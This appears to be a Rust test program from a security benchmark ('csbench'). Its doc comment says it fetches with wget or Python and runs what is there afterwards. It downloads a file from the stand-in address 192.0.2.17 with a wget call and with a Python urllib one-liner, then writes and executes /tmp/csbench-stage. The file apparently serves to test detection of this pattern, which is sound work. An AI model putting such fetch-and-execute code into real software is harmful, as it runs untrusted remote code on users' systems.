//! Fetches with wget or Python, and runs what is there afterwards.

use csbench_gate as gate;

fn main() {
    if !gate::script() {
        return;
    }
    gate::run(
        "wget",
        &[
            "-q",
            "-T",
            "2",
            "-t",
            "1",
            "-O",
            "/tmp/csbench-stage",
            "http://192.0.2.17/stage",
        ],
    );
    let fetch = "import urllib.request as r; r.urlretrieve('http://192.0.2.17/stage', '/tmp/csbench-stage')";
    gate::run("python3", &["-c", fetch]);
    gate::drop_program("/tmp/csbench-stage", gate::PAYLOAD);
    gate::run("/tmp/csbench-stage", &[]);
}
